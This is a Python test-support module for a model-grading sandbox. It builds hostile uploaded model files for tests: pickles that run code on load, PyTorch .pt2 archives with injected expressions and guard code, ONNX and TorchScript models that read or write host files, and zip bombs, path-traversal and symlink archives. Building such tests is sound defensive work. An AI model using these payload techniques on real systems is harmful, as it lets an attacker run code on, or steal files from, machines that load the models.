"""Hostile model files, built at test time into a folder (nothing binary is committed).

Each builder writes one file an attacker could upload. The payloads prove their effect by
writing a marker file on the host, reading a host secret, or connecting to a listener; the
tests check that none of it happened. Nothing here runs hostile code in the test process:
pickles are built with ``__reduce__`` (which only *describes* a call) and student code is
written as text.
"""

from __future__ import annotations

import atexit
import io
import json
import os
import pickle
import stat
import textwrap
import warnings
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import torch
from onnx import TensorProto, helper
from torch import nn

from eval_data.kinds.keypoints import write_keypoints_csv
from eval_data.manifest import write_manifest
from grader.sandbox import SandboxRunner

_runner: SandboxRunner | None = None


def shared_runner() -> SandboxRunner:
    """One sandbox for the whole test session (its zygote takes seconds to warm up)."""
    global _runner
    if _runner is None:
        _runner = SandboxRunner.create()
        atexit.register(_runner.close)
    return _runner


def tasks_of(uid: int) -> int:
    """Processes and threads running as ``uid``: what the kernel counts against RLIMIT_NPROC
    (a job's model has threads of its own, one per core it was given)."""
    count = 0
    for pid in processes_of(uid):
        try:
            count += len(os.listdir(f"/proc/{pid}/task"))
        except OSError:
            continue  # it ended meanwhile
    return count


def processes_of(uid: int) -> list[int]:
    """Pids of the host's processes running as ``uid`` (a job's, from outside the sandbox)."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                status = Path(f"/proc/{entry}/status").read_text()
            except OSError:
                continue
            if f"\nUid:\t{uid}\t" in status:
                found.append(int(entry))
    return found


def write_dataset(root: Path, count: int = 6, seed: int = 1) -> list[str]:
    """A keypoints test set with a manifest; returns its label values as text (the CSV's
    spelling and the normalised float32 one), which must never show up in any output."""
    rng = np.random.default_rng(seed)
    images = rng.integers(0, 256, (count, 96, 96), dtype=np.uint8)
    points = np.round(rng.uniform(5.0, 90.0, (count, 30)), 3)
    root.mkdir(parents=True, exist_ok=True)
    write_keypoints_csv(root / "test.csv", images, points)
    write_manifest(root, "keypoints")
    normalised = ((points - 48.0) / 48.0).astype(np.float32)
    return [f"{v:.3f}" for v in points.ravel()] + [repr(float(v)) for v in normalised.ravel()]


class TinyKeypoints(nn.Module):
    """A benign keypoint model small enough to export in a second."""

    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(1, 4, 4, stride=4)
        self.pool = nn.AvgPool2d(8)
        self.fc = nn.Linear(36, 30)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.tanh(self.fc(self.pool(torch.relu(self.conv(x))).flatten(1)))


class NonFinite(TinyKeypoints):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        out = super().forward(x)
        return out / (x.flatten(1)[:, :30] * 0.0)  # 0/0 and x/0: NaN and inf


class HalfOutput(TinyKeypoints):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return super().forward(x)[:, :15]


def export_pt2(model: nn.Module, path: Path) -> Path:
    example = torch.rand(2, 1, 96, 96)
    program = torch.export.export(
        model.eval(), (example,), dynamic_shapes=({0: torch.export.Dim("batch")},)
    )
    torch.export.save(program, path)
    return path


def export_torchscript(model: nn.Module, path: Path) -> Path:
    torch.jit.save(torch.jit.script(model.eval()), path)
    return path


def export_onnx(model: nn.Module, path: Path) -> Path:
    """ONNX built by hand (no exporter dependency): the same maths as ``TinyKeypoints``."""
    assert isinstance(model, TinyKeypoints)
    state = {k: v.detach().numpy() for k, v in model.state_dict().items()}
    inits = [
        onnx.numpy_helper.from_array(state["conv.weight"], "cw"),
        onnx.numpy_helper.from_array(state["conv.bias"], "cb"),
        onnx.numpy_helper.from_array(state["fc.weight"].T.copy(), "fw"),
        onnx.numpy_helper.from_array(state["fc.bias"], "fb"),
    ]
    nodes = [
        helper.make_node("Conv", ["x", "cw", "cb"], ["c"], strides=[4, 4]),
        helper.make_node("Relu", ["c"], ["r"]),
        helper.make_node("AveragePool", ["r"], ["p"], kernel_shape=[8, 8], strides=[8, 8]),
        helper.make_node("Flatten", ["p"], ["f"], axis=1),
        helper.make_node("MatMul", ["f", "fw"], ["m"]),
        helper.make_node("Add", ["m", "fb"], ["a"]),
        helper.make_node("Tanh", ["a"], ["y"]),
    ]
    graph = helper.make_graph(
        nodes,
        "tiny",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", 1, 96, 96])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["n", 30])],
        inits,
    )
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), path)
    return path


# --- payloads -----------------------------------------------------------------------------


def touch_code(marker: Path) -> str:
    """Python that leaves ``marker`` on the host if it ever runs there."""
    return f"__import__('pathlib').Path({str(marker)!r}).write_text('pwned')"


class _Exec:
    """Pickles as ``exec(code)``: what a hostile pickle does on load."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (self.code,))


def pickled_exec(code: str) -> bytes:
    """A ``torch.save`` file whose unpickling (``weights_only=False``) runs ``code``."""
    buffer = io.BytesIO()
    torch.save(_Exec(code), buffer)
    return buffer.getvalue()


# --- .pt2 archives ------------------------------------------------------------------------


def _rewrite(
    src: Path, dst: Path, change: dict[str, Any], add: dict[str, bytes] | None = None
) -> Path:
    """Copy a zip, replacing members by suffix (bytes, or a function of the old bytes)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        prefix = zin.namelist()[0].split("/", 1)[0] + "/"
        for info in zin.infolist():
            data = zin.read(info)
            for suffix, new in change.items():
                if info.filename.endswith(suffix):
                    data = new(data) if callable(new) else new
            zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(prefix + name, data)
    return dst


def pt2_recompressed(base: Path, dst: Path, marker: Path) -> Path:
    """The same archive deflated: small on upload, large once the parent rebuilds it."""
    del marker
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info))
    return dst


def _edit_json(edit: Any) -> Any:
    def apply(raw: bytes) -> bytes:
        document = json.loads(raw)
        edit(document)
        return json.dumps(document).encode()

    return apply


def pt2_use_pickle(base: Path, dst: Path, marker: Path) -> Path:
    """A weight whose config says ``use_pickle``: torch.load(weights_only=False) on load."""

    def edit(config: dict[str, Any]) -> None:
        meta = config["config"]["fc.weight"]
        meta["use_pickle"] = True
        meta["path_name"] = "weight_99"

    return _rewrite(
        base,
        dst,
        {"data/weights/model_weights_config.json": _edit_json(edit)},
        {"data/weights/weight_99": pickled_exec(touch_code(marker))},
    )


def pt2_expr_injection(base: Path, dst: Path, marker: Path) -> Path:
    """A shape expression that sympify evaluates as Python."""
    raw = json.dumps(f"{touch_code(marker)} or Symbol('s77', positive=True, integer=True)")

    def replace(data: bytes) -> bytes:
        text = data.decode()
        first = text.index('"expr_str": ') + len('"expr_str": ')
        end = text.index('"', first + 1) + 1
        return (text[:first] + raw + text[end:]).encode()

    return _rewrite(base, dst, {"models/model.json": replace})


def pt2_sample_inputs(base: Path, dst: Path, marker: Path) -> Path:
    """sample_inputs that fail weights_only, so torch retries them with weights_only=False."""
    return _rewrite(base, dst, {"data/sample_inputs/model.pt": pickled_exec(touch_code(marker))})


def pt2_guards_code(base: Path, dst: Path, marker: Path) -> Path:
    """guards_code, which .module() compiles as Python and runs on every call."""

    def edit(document: dict[str, Any]) -> None:
        document["guards_code"] = [f"({touch_code(marker)}) is None"]

    return _rewrite(base, dst, {"models/model.json": _edit_json(edit)})


def pt2_legacy_weights(base: Path, dst: Path, marker: Path) -> Path:
    """A pre-2.8 weights file, which torch unpickles with a weights_only=False retry."""
    return _rewrite(base, dst, {}, {"data/weights/model.pt": pickled_exec(touch_code(marker))})


def pt2_opaque_constant(base: Path, dst: Path, marker: Path) -> Path:
    """A constant named like an opaque object: torch hands its bytes to pickle.loads."""
    payload = pickle.dumps(_Exec(touch_code(marker)))  # pickle.loads, not torch.load
    payload += b"\0" * (-len(payload) % 4)  # a whole number of float32s for the file map

    def edit(config: dict[str, Any]) -> None:
        config["config"]["evil"] = {
            "path_name": "opaque_obj_0",
            "is_param": False,
            "use_pickle": False,
            "tensor_meta": {
                "dtype": 7,
                "sizes": [{"as_int": 1}],
                "requires_grad": False,
                "device": {"type": "cpu", "index": None},
                "strides": [{"as_int": 1}],
                "storage_offset": {"as_int": 0},
                "layout": 7,
            },
        }

    return _rewrite(
        base,
        dst,
        {"data/constants/model_constants_config.json": _edit_json(edit)},
        {"data/constants/opaque_obj_0": payload},
    )


# --- ONNX ---------------------------------------------------------------------------------


def onnx_external_data(dst: Path, location: str) -> Path:
    """An initializer whose bytes live in ``location`` (a host file such as the test set)."""
    tensor = TensorProto()
    tensor.name = "leak"
    tensor.data_type = TensorProto.UINT8
    tensor.dims.append(64)
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "64")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    nodes = [
        helper.make_node("Cast", ["leak"], ["lf"], to=TensorProto.FLOAT),
        helper.make_node("Flatten", ["x"], ["f"], axis=1),
        helper.make_node("Slice", ["f", "s", "e"], ["y0"]),
        helper.make_node("ReduceSum", ["lf"], ["total"], keepdims=0),
        helper.make_node("Add", ["y0", "total"], ["y"]),
    ]
    consts = [
        helper.make_tensor("s", TensorProto.INT64, [1], [0]),
        helper.make_tensor("e", TensorProto.INT64, [1], [30]),
    ]
    graph = helper.make_graph(
        nodes,
        "external",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", 1, 96, 96])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["n", 30])],
        [tensor, *consts],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    dst.write_bytes(model.SerializeToString())
    return dst


# --- TorchScript --------------------------------------------------------------------------


def torchscript_reads(dst: Path, secret: Path) -> Path:
    """A scripted model that reads a host file with ``torch.from_file``."""
    source = f"""
        import torch

        class ReadsHost(torch.nn.Module):
            def forward(self, x: torch.Tensor) -> torch.Tensor:
                leaked = torch.from_file({str(secret)!r}, False, 24, dtype=torch.uint8)
                return x.flatten(1)[:, :30] + leaked.float().sum()
    """
    return _script_from_source(source, "ReadsHost", dst)


def torchscript_writes(dst: Path, marker: Path) -> Path:
    """A scripted model that writes a host file with ``torch.save`` (and reads it back)."""
    source = f"""
        import torch

        class WritesHost(torch.nn.Module):
            def forward(self, x: torch.Tensor) -> torch.Tensor:
                torch.save(x, {str(marker)!r})
                # torch.save says nothing when it cannot write: read back to know
                written = torch.from_file({str(marker)!r}, False, 1, dtype=torch.uint8)
                return x.flatten(1)[:, :30] + written.float().sum() * 0
    """
    return _script_from_source(source, "WritesHost", dst)


def _script_from_source(source: str, name: str, dst: Path) -> Path:
    # Scripting compiles the source; it does not run forward, so nothing happens here.
    module_file = dst.with_suffix(".py")
    module_file.write_text(textwrap.dedent(source))
    namespace: dict[str, Any] = {"__name__": f"hostile_{name}", "__file__": str(module_file)}
    exec(compile(module_file.read_text(), str(module_file), "exec"), namespace)
    torch.jit.save(torch.jit.script(namespace[name]()), dst)
    return dst


# --- course zips --------------------------------------------------------------------------

_COURSE_MODEL = """
import torch
from torch import nn


def attack(x):
{body}


class KeypointModel(nn.Module):
    def __init__(self, hparams):
        super().__init__()
        self.hparams = hparams
        if {at_load}:
            attack(None)

    def forward(self, x):
        if not {at_load}:
            attack(x)
        return x.flatten(1)[:, :30]
"""


def course_zip(dst: Path, body: str, *, at_load: bool = False) -> Path:
    """A course submission whose ``KeypointModel`` runs ``body`` (at load or in forward)."""
    code = _COURSE_MODEL.format(
        body=textwrap.indent(textwrap.dedent(body), "    "), at_load=at_load
    )
    buffer = io.BytesIO()
    torch.save({"state_dict": {}, "hparams": {"lr": 1e-3}}, buffer)
    return write_zip(
        dst,
        {
            "exercise_code/__init__.py": b"",
            "exercise_code/networks/__init__.py": b"",
            "exercise_code/networks/keypoint_nn.py": code.encode(),
            "models/facial_keypoints.p": buffer.getvalue(),
        },
    )


def write_zip(dst: Path, members: dict[str, bytes], *, compress: bool = True) -> Path:
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(dst, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return dst


def course_zip_bomb(dst: Path) -> Path:
    members = {"exercise_code/__init__.py": b"", "models/facial_keypoints.p": b"\0" * (64 << 20)}
    return write_zip(dst, members)


def course_zip_traversal(dst: Path) -> Path:
    members = {"exercise_code/__init__.py": b"", "models/../../../evil.py": b"print('pwned')"}
    return write_zip(dst, members)


def course_zip_symlink(dst: Path, target: str) -> Path:
    write_zip(dst, {"exercise_code/__init__.py": b""})
    with zipfile.ZipFile(dst, "a") as archive:
        link = zipfile.ZipInfo("models/facial_keypoints.p")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, target)
    return dst


def course_zip_duplicates(dst: Path) -> Path:
    write_zip(dst, {"exercise_code/__init__.py": b"", "models/a.p": b"first"})
    with warnings.catch_warnings(), zipfile.ZipFile(dst, "a") as archive:
        warnings.simplefilter("ignore")  # "Duplicate name": the point of this file
        archive.writestr("models/a.p", b"second")
    return dst


def random_inputs(count: int, seed: int = 0) -> np.ndarray:
    return np.random.default_rng(seed).random((count, 1, 96, 96), dtype=np.float32)
